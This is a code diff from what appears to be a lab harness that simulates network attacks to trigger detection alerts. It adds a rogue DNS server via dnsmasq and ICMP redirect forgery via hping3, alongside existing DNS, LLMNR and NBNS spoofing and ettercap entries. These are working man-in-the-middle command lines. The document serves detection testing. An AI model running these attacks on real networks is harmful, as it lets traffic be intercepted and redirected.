@@ -1,5 +1,5 @@
 /** Hosts that claim to be a router or a neighbour by IPv6, or a server of names, which they are not. */
-import type { Site } from '../site.ts';
+import { foreignNames, type Site } from '../site.ts';
 import type { Attack, Plan } from './attack.ts';
 
 const speeds = { fast: [1, 1] } as const;
@@ -87,6 +87,22 @@ function forged(site: Site, command: string): Plan {
 
 const forgery = { class: 'names.forged', alerts: ['names.forged'], technique: 'T1557', speeds } as const;
 
+/** Alice, who asks the town's server, is made to ask another, which leads everything to itself. */
+function rogueServer(site: Site): Plan {
+  const [evil, infra] = [site.address('evil'), site.address('infra')];
+  const ask = (server: string) => foreignNames.map((name) => `dig +tries=1 +time=1 @${server} ${name} A > /dev/null; sleep 0.4`).join('; ');
+  const options = `-C /dev/null -d --no-resolv --no-hosts --bind-interfaces --interface=eth0 --user=root --address=/#/${evil}`;
+  return {
+    jobs: [
+      { host: 'evil', argv: ['dnsmasq', ...options.split(' ')] },
+      { host: 'alice', argv: ['bash', '-c', `sleep 1; ${ask(infra)}; sleep 1; ${ask(evil)}`] },
+    ],
+    attackers: [evil],
+    victims: [site.address('alice')],
+    seconds: 12,
+  };
+}
+
 /** Alice looks for computers that are not; whoever is asked, evil says that it is the one. By scapy's `answer`, which takes its own address. */
 function poisoned(answer: string, ask: (site: Site, name: string) => string, needs: readonly string[]): Attack {
   const names = ['filesrv', 'wpad', 'intranet', 'printer7', 'mailhost'];
@@ -112,10 +128,10 @@ function poisoned(answer: string, ask: (site: Site, name: string) => string, nee
   };
 }
 
-/** Alice speaks with a host outside; evil tells her that the way there leads by itself. */
-function redirected(tool: string, command: (site: Site) => string): Attack {
+/** Alice speaks with a host outside; evil tells her that the way there leads by another host, or itself. */
+function redirected(name: string, tool: string, command: (site: Site) => string): Attack {
   return {
-    class: 'icmp.redirect',
+    class: `icmp.${name}`,
     alerts: ['icmp.redirect'],
     technique: 'T1557',
     tool,
@@ -131,6 +147,13 @@ function redirected(tool: string, command: (site: Site) => string): Attack {
       seconds: 16,
     }),
   };
+}
+
+/** For hping3: in the name of the gateway, that `way` leads outside. */
+function redirectBy(site: Site, way: 'evil' | 'web'): string {
+  const [alice, outside] = [site.address('alice'), site.address('outside')];
+  const message = `--icmp -C 5 -K 1 --icmp-gw ${site.address(way)} --icmp-ipsrc ${alice} --icmp-ipdst ${outside}`;
+  return `-q -I eth0 -c 5 -a ${site.address('gateway')} ${message} ${alice}`;
 }
 
 export const neighbourAttacks: readonly Attack[] = [
@@ -198,15 +221,29 @@ export const neighbourAttacks: readonly Attack[] = [
     needs: ['dnsspoof', 'dig'],
     plan: (site) => forged(site, 'exec timeout -s INT 20 dnsspoof -i eth0'),
   },
+  {
+    class: 'dns.rogue-server',
+    alerts: ['dns.rogue-server'],
+    technique: 'T1557',
+    tool: 'dnsmasq',
+    needs: ['dnsmasq', 'dig'],
+    speeds,
+    plan: rogueServer,
+  },
   poisoned('llmnr_spoof', (_site, name) => `dig +noedns +norecurse +tries=1 +time=1 -p 5355 @224.0.0.252 ${name} A`, ['dig']),
   poisoned('nbns_spoof', ({ net }, name) => `nmblookup -B ${net}.255 ${name}`, ['nmblookup']),
+  redirected('redirect', 'hping3', (site) => `hping3 ${redirectBy(site, 'evil')}`),
+  // It speaks with the gateway itself, as who stands in the middle does.
   redirected(
+    'redirect.elsewhere',
     'hping3',
-    (site) =>
-      `hping3 -q -I eth0 --icmp -C 5 -K 1 -c 5 -a ${site.address('gateway')} --icmp-gw ${site.address('evil')} ` +
-      `--icmp-ipsrc ${site.address('alice')} --icmp-ipdst ${site.address('outside')} ${site.address('alice')}`,
+    (site) => `sh -c "ping -q -c 2 ${site.address('gateway')} & exec hping3 ${redirectBy(site, 'web')}"`,
   ),
-  redirected('ettercap', (site) => `ettercap -T -q -i eth0 -M icmp:${site.mac('gateway')}/${site.address('gateway')} < /dev/null`),
+  redirected(
+    'redirect',
+    'ettercap',
+    (site) => `ettercap -T -q -i eth0 -M icmp:${site.mac('gateway')}/${site.address('gateway')} < /dev/null`,
+  ),
   thc(
     'redirect',
     'icmp.redirect',
